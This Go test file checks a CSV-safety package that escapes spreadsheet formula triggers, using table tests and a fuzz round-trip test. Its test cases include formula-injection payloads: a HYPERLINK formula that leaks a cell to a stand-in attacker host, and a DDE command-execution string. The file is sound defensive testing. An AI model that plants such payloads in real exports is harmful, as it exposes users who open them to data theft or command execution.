package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestNeutralize(t *testing.T) {
	for _, c := range []struct{ in, out string }{
		{`=HYPERLINK("http://evil.test/?leak="&A1,"Click")`, `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`},
		{`=cmd|'/c calc'!A0`, `'=cmd|'/c calc'!A0`},
		{"+1+cmd", "'+1+cmd"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-", "'-"},
		{"'=x", "''=x"},
		{"''+x", "'''+x"},
		// Left alone: plain numbers, ordinary text, quotes not before a trigger.
		{"-5", "-5"},
		{"+442079460000", "+442079460000"},
		{"-33.8688", "-33.8688"},
		{"Zoë", "Zoë"},
		{"O'Brien", "O'Brien"},
		{"'quoted'", "'quoted'"},
		{"'", "'"},
		{"", ""},
		{"a=b", "a=b"},
		{"zoe@example.com", "zoe@example.com"},
	} {
		if got := Neutralize(c.in); got != c.out {
			t.Errorf("Neutralize(%q) = %q, want %q", c.in, got, c.out)
		}
		if got := Restore(Neutralize(c.in)); got != c.in {
			t.Errorf("Restore(Neutralize(%q)) = %q", c.in, got)
		}
	}
}

// Every cell a spreadsheet could evaluate starts, once written, with a
// character that is not a trigger or is a plain number.
func FuzzRoundTrip(f *testing.F) {
	for _, s := range []string{"=1+1", "'=x", "-5", "-5-", "+", "''", "'\r", "\t", "abc", "-.5", "1.", "--1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralize(s)
		if Restore(n) != s {
			t.Fatalf("Restore(Neutralize(%q)) = %q", s, Restore(n))
		}
		if n != "" && trigger(n[0]) && !plainNumber(n) {
			t.Fatalf("Neutralize(%q) = %q still starts a formula", s, n)
		}
		// Through a real CSV file too.
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		_ = w.Write([]string{n, "x"})
		w.Flush()
		rec, err := csv.NewReader(&b).Read()
		if err == nil && len(rec) == 2 && rec[0] == n && Restore(rec[0]) != s {
			t.Fatalf("through CSV: %q", rec[0])
		}
	})
}
